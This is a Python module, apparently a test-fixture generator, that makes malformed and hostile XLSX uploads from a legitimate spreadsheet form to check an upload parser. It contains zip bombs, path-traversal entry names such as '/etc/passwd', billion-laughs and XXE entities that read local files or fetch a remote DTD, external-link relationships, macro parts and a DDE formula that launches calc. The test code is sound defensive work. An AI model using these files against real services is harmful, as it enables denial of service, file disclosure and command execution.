"""Files that somebody could upload in a form's place: kinds of attack, each in eight variations."""

import io
import random
import re
import struct
import zipfile
from collections.abc import Callable, Mapping
from functools import cache

Make = Callable[[bytes, int], bytes]
VARIATIONS = 8
SHEET, HIDDEN_SHEET = "xl/worksheets/sheet1.xml", "xl/worksheets/sheet3.xml"
STRINGS, BOOK = "xl/sharedStrings.xml", "xl/workbook.xml"
TYPES, BOOK_RELS = "[Content_Types].xml", "xl/_rels/workbook.xml.rels"
READ = [SHEET, STRINGS, BOOK, TYPES, BOOK_RELS, HIDDEN_SHEET, "_rels/.rels", SHEET]
_END = 22
_NOISE = random.Random(0).randbytes(100_000)


@cache
def parts_of(form: bytes) -> Mapping[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(form)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def packed(parts: Mapping[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


def other(form: bytes, changed: Mapping[str, bytes]) -> bytes:
    """The form with parts replaced or added."""
    return packed({**parts_of(form), **changed})


def beside_noise(form: bytes, changed: Mapping[str, bytes]) -> bytes:
    """The form with parts replaced, and a picture that keeps their packing in proportion."""
    return other(form, {**changed, "xl/media/image9.png": _NOISE})


def edited(form: bytes, part: str, old: str | re.Pattern[str], new: str) -> bytes:
    """The form with words of a part replaced once."""
    text = parts_of(form)[part].decode()
    pattern = re.compile(re.escape(old)) if isinstance(old, str) else old
    changed, count = pattern.subn(lambda _found: new, text, count=1)
    assert count, (part, old)
    return other(form, {part: changed.encode()})


def no_workbook(form: bytes, n: int) -> bytes:
    noise = random.Random(n).randbytes(5_000)
    return [
        b"", b"PK", b"%PDF-1.7\n" + noise, b"<html><table></table></html>", noise,
        b"a;b;c\n1;2;3\n", packed({"word/document.xml": b"<w/>", TYPES: b"<Types/>"}),
        packed({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet"}),
    ][n]  # fmt: skip


def old_or_locked(form: bytes, n: int) -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + random.Random(n).randbytes(512 * (n + 1))


def cut_off(form: bytes, n: int) -> bytes:
    return form[: len(form) * (n + 1) // (VARIATIONS + 1)]


def more_around(form: bytes, n: int) -> bytes:
    junk = b"\0" * 10 ** (n % 4 + 1)
    return form + junk if n < 4 else form[:-2] + struct.pack("<H", len(junk) % 65536) + junk


def bits_changed(form: bytes, n: int) -> bytes:
    """The packed bytes of a part that is read."""
    with zipfile.ZipFile(io.BytesIO(form)) as archive:
        found = archive.getinfo(READ[n % 6])
    place = found.header_offset + 30 + len(found.filename) + found.compress_size // 2 + n
    return form[:place] + bytes([form[place] ^ 0xFF]) + form[place + 1 :]


def bomb(form: bytes, n: int) -> bytes:
    megabytes = 5 + 3 * n
    name = [SHEET, STRINGS, "xl/media/image1.png", BOOK][n % 4]
    return other(form, {name: b"\0" * (megabytes * 2**20)})


def lying_bomb(form: bytes, n: int) -> bytes:
    """Says that it unpacks to little, in the archive's list and before the part."""
    raw = bytearray(other(form, {READ[n]: b" " * 2**20 * (n + 4)}))
    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        found = archive.getinfo(READ[n])
        start = archive.start_dir
    said = struct.pack("<L", 1_000 * (n + 1))
    raw[found.header_offset + 22 : found.header_offset + 26] = said
    place = raw.index(READ[n].encode(), start) - 46
    raw[place + 24 : place + 28] = said
    return bytes(raw)


def many_parts(form: bytes, n: int) -> bytes:
    return other(form, {f"xl/x{i}.xml": b"" for i in range(200 + 400 * n)})


def shared_bytes(form: bytes, n: int) -> bytes:
    """Many entries of the list that unpack the same bytes (David Fifield's bomb)."""
    raw = packed({"xl/a.xml": b"a" * 200_000, **parts_of(form)})
    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        found, start = archive.getinfo("xl/a.xml"), archive.start_dir
    name, head = found.filename.encode(), raw[start : start + 46]
    assert raw[start + 46 : start + 46 + len(name)] == name
    entries = b"".join(head + b"xl/%c.xml" % (98 + i) for i in range(n + 1))
    body, end = raw[start:-_END], raw[-_END:]
    count = struct.unpack("<H", end[10:12])[0] + n + 1
    size = len(body) + len(entries)
    end = end[:8] + struct.pack("<HHLL", count, count, size, start) + end[20:]
    return raw[:start] + body + entries + end


def same_names(form: bytes, n: int) -> bytes:
    out = io.BytesIO(form)
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive:
        name = READ[n] if n < 7 else READ[n].upper()
        archive.writestr(name, parts_of(form)[READ[n]])
    return out.getvalue()


def odd_names(form: bytes, n: int) -> bytes:
    name = [
        "../../etc/cron.d/x", "/etc/passwd", "xl\\..\\..\\x", "C:/x.xml", "xl/" + "x" * 300,
        "xl/\x01.xml", "xl/../../x", "a/" * 40 + "x",
    ][n]  # fmt: skip
    return other(form, {name: b"x"})


def _declared(data: bytes, declaration: bytes) -> bytes:
    """The part with a document type before its first tag."""
    head, tag, rest = data.partition(b"?>")
    return head + tag + declaration + rest


def laughs(form: bytes, n: int) -> bytes:
    lines = [b'<!ENTITY a0 "%s">' % (b"ha" * 50)]
    lines += [b'<!ENTITY a%d "%s">' % (i + 1, b"&a%d;" % i * 10) for i in range(3 + n)]
    found = _declared(parts_of(form)[READ[n]], b"<!DOCTYPE x [%s]>" % b"".join(lines))
    return other(form, {READ[n]: re.sub(rb"(<t[^>]*>)", rb"\1&a3;", found, count=1)})


def quadratic(form: bytes, n: int) -> bytes:
    """One long entity, used many times; or entities from elsewhere."""
    inner = [
        b'<!ENTITY a "%s">' % (b"a" * 50_000), b'<!ENTITY a SYSTEM "file:///etc/passwd">',
        b'<!ENTITY % a SYSTEM "http://ngoai.example/x.dtd"> %a;', b'<!ENTITY a "">',
        b'<!ENTITY a PUBLIC "x" "http://ngoai.example/x">', b"<!ELEMENT x ANY>",
        b'<!ATTLIST x y CDATA "z">', b'<!NOTATION a SYSTEM "calc.exe">',
    ][n]  # fmt: skip
    found = _declared(parts_of(form)[SHEET], b"<!DOCTYPE worksheet [%s]>" % inner)
    uses = b"&a;" * 2_000 if n < 5 else b""
    return other(form, {SHEET: found.replace(b"</v>", uses + b"</v>", 1)})


def many_strings(form: bytes, n: int) -> bytes:
    item = [b"<si><t>x</t></si>", b"<si/>", b"<si><t/></si>", b"<si><r><t>x</t></r></si>"][n % 4]
    text = item * ([200_000, 40_000][n // 4] if n % 4 != 1 else 500_000)
    return beside_noise(form, {STRINGS: _grown(form, STRINGS, b"</sst>", text)})


def _grown(form: bytes, part: str, before: bytes, more: bytes) -> bytes:
    return parts_of(form)[part].replace(before, more + before)


def many_tags(form: bytes, n: int) -> bytes:
    """A sheet that is large, deep, or of odd tags."""
    names = b" ".join(b"a%d='1'" % i for i in range(200_000))
    more = [
        b"<row>" * 300_000, b'<row r="99"><c><v>1</v></c></row>' * 100_000,
        b"<c/>" * 700_000, b"<x %s/>" % names, b"<x y='%s'/>" % (b"z" * 3_000_000),
        b"<!-- %s -->" % (b"-x" * 1_500_000), b"<?x %s?>" % (b"x" * 3_000_000),
        b"<x>" * 30_000 + b"</x>" * 30_001,
    ][n]  # fmt: skip
    return beside_noise(form, {SHEET: _grown(form, SHEET, b"</sheetData>", more)})


def many_small(form: bytes, n: int) -> bytes:
    """Parts each of which is small: all are read, since each could lead out of the file."""
    tags = b"<a/>" * (24_000 - 2_000 * n)
    relations = b"<Relationships>" + tags + b"</Relationships>"
    return beside_noise(form, {f"xl/_rels/x{i}.rels": relations for i in range(20 * (n + 1))})


def far_cells(form: bytes, n: int) -> bytes:
    place = [
        "XFD1048576", "A1048576", "XFD1", "ZZZ9999999", "A2001", "AZ1", "A99999999999", "A0",
    ][n]  # fmt: skip
    cell = f'<row r="3000"><c r="{place}"><v>1</v></c></row>'.encode()
    return other(form, {SHEET: _grown(form, SHEET, b"</sheetData>", cell)})


def long_texts(form: bytes, n: int) -> bytes:
    """One string that is longer than a cell can hold, or used by thousands of cells."""
    length = [40_000, 60_000, 100_000, 190_000, 250_000, 1_000_000, 3_000_000, 3_900_000][n]
    cells = b"".join(
        b'<c r="A%d" t="inlineStr"><is><t>%s</t></is></c>' % (900 + i, b"x" * length)
        for i in range(3_950_000 // length)
    )
    grown = _grown(form, SHEET, b"</sheetData>", b"<row>" + cells + b"</row>")
    return beside_noise(form, {SHEET: grown})


def active(form: bytes, n: int) -> bytes:
    name = [
        "xl/vbaProject.bin", "xl/macrosheets/sheet1.xml", "xl/activeX/activeX1.xml",
        "xl/embeddings/oleObject1.bin", "customUI/customUI14.xml", "xl/connections.xml", "", "",
    ][n]  # fmt: skip
    if name:
        return other(form, {name: b"x"})
    kind = ["sheet.macroEnabled.main+xml", "template.macroEnabled.main+xml"][n - 6]
    return edited(form, TYPES, re.compile(r"application/vnd\.openxml[^\"]*sheet\.main\+xml"),
                  f"application/vnd.ms-excel.{kind}")  # fmt: skip


def leading_out(form: bytes, n: int) -> bytes:
    if n == 0:
        return other(form, {"xl/externalLinks/externalLink1.xml": b"<externalLink/>"})
    kind = ["", "externalLinkPath", "oleObject", "image", "attachedTemplate", "package", "frame",
            "x"][n]  # fmt: skip
    mode = "External" if n % 2 else "&#69;xternal"
    relation = (
        f'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/x/{kind}" '
        f'Target="file://ngoai.example/x" TargetMode="{mode}"/>'
    ).encode()
    part = [BOOK_RELS, "_rels/.rels"][n % 2]
    return other(form, {part: _grown(form, part, b"</Relationships>", relation)})


def other_writing(form: bytes, n: int) -> bytes:
    codec = ["utf-16", "utf-16-le", "utf-16-be", "utf-32", "cp037", "latin-1", "cp500", "utf-32-be"]
    part = READ[n]
    text = (
        parts_of(form)[part]
        .decode()
        .replace("><", ">ÿ<", 1 if n == 5 else 0)
        .replace('encoding="UTF-8"', f'encoding="{codec[n]}"')
    )
    return other(form, {part: text.encode(codec[n], "replace")})


def other_sheets(form: bytes, n: int) -> bytes:
    sheet = re.compile(r'<sheet name="Trả lời" sheetId="1"[^>]*/>')
    return [
        lambda: edited(form, BOOK, "Trả lời", "Sheet1"),
        lambda: edited(form, BOOK, '"dondoc"', '"khac"'),
        lambda: edited(form, BOOK, sheet, ""),
        lambda: edited(form, BOOK, 'r:id="rId1"', 'r:id="rId3"'),
        lambda: edited(form, BOOK, 'r:id="rId1"', 'r:id="rId99"'),
        lambda: edited(form, BOOK, '"Danh mục"', '"Trả lời"'),
        lambda: edited(form, BOOK_RELS, "worksheets/sheet1.xml", "../../../x.xml"),
        lambda: edited(form, BOOK_RELS, "worksheets/sheet1.xml", "worksheets/none.xml"),
    ][n]()


def twice_told(form: bytes, n: int) -> bytes:
    """A cell that stands twice, a string that is not there, numbers of rows that are none."""
    more = [
        '<row r="15"><c r="C16"><v>1</v></c><c r="C16"><v>2</v></c></row>',
        '<row r="900"><c r="A900" t="s"><v>99999</v></c></row>',
        '<row r="900"><c r="A900" t="s"><v>-1</v></c></row>',
        '<row r="900"><c r="A900" t="s"><v>x</v></c></row>',
        '<row r="x"><c><v>1</v></c></row>', '<row r="900"><c r="a900"><v>1</v></c></row>',
        f'<row r="{"9" * 5000}"><c><v>1</v></c></row>', '<row><c r=""><v>1</v></c></row>',
    ][n]  # fmt: skip
    return other(form, {SHEET: _grown(form, SHEET, b"</sheetData>", more.encode())})


def too_big(form: bytes, n: int) -> bytes:
    noise = random.Random(n).randbytes(2_000_000 + 100_000 * n)
    return packed({**parts_of(form), "xl/media/image1.png": noise}, zipfile.ZIP_STORED)


def odd_packing(form: bytes, n: int) -> bytes:
    if n < 2:
        return packed(parts_of(form), [zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA][n])
    raw = bytearray(form)
    with zipfile.ZipFile(io.BytesIO(form)) as archive:
        start = archive.start_dir
    place = raw.index(READ[n - 2].encode(), start) - 46
    if n < 5:  # says it is encrypted
        raw[place + 8] |= 1
    else:  # says it is packed in some other way
        raw[place + 10 : place + 12] = struct.pack("<H", [9, 99, 12][n - 5])
    return bytes(raw)


def changed_form(form: bytes, n: int) -> bytes:
    """What the hidden sheet says of the form; its cells are A1 to A4, in this order."""
    values = [
        {1: "dondoc/form/0"}, {2: "0" * 32}, {3: ""}, {3: "-1"}, {3: "²"}, {3: "9" * 5_000},
        {0: ""}, {0: "x" * 30_000},
    ][n]  # fmt: skip
    cells = re.findall(rb"<c r=\"A\d\"[^>]*>.*?</c>", parts_of(form)[HIDDEN_SHEET])
    sheet = parts_of(form)[HIDDEN_SHEET]
    for place, value in values.items():
        new = f'<c r="A{place + 1}" t="inlineStr"><is><t>{value}</t></is></c>'.encode()
        sheet = sheet.replace(cells[place], new)
    return other(form, {HIDDEN_SHEET: sheet})


def changed_token(form: bytes, n: int) -> bytes:
    text = parts_of(form)[STRINGS].decode()
    token = max(re.findall(r"<t>([\w.-]{30,400})</t>", text), key=lambda t: "." in t)
    new = [
        token[:-1], token + "A", token.swapcase(), token.replace(".", ""), "." + token,
        token[::-1], token[:20] + "x" + token[21:], token.split(".")[0],
    ][n]  # fmt: skip
    return other(form, {STRINGS: text.replace(token, new).encode()})


def token_by_formula(form: bytes, n: int) -> bytes:
    sheet = parts_of(form)[HIDDEN_SHEET]
    cell = re.search(rb"<c r=\"A1\"[^>]*>.*?</c>", sheet)
    assert cell
    formula = [b"1+1", b"A9", b"", b"WEBSERVICE(&quot;x&quot;)", b"cmd|' /C calc'!A0", b"[1]x!A1",
               b"INDIRECT(A2)", b"A1"][n]  # fmt: skip
    new = b'<c r="A1" t="str"><f>%s</f><v>x</v></c>' % formula
    return other(form, {HIDDEN_SHEET: sheet.replace(cell[0], new)})


KINDS: dict[str, Make] = {
    made.__name__: made
    for made in (
        no_workbook, old_or_locked, cut_off, more_around, bits_changed, bomb, lying_bomb,
        many_parts, shared_bytes, same_names, odd_names, laughs, quadratic, many_strings,
        many_tags, many_small, far_cells, long_texts, active, leading_out, other_writing,
        other_sheets,
        twice_told, too_big, odd_packing, changed_form, changed_token, token_by_formula,
    )
}  # fmt: skip
EVERY = [(kind, n) for kind in KINDS for n in range(VARIATIONS)]


def hostile(form: bytes, kind: str, variation: int) -> bytes:
    """A hostile file made out of a form."""
    return KINDS[kind](form, variation)
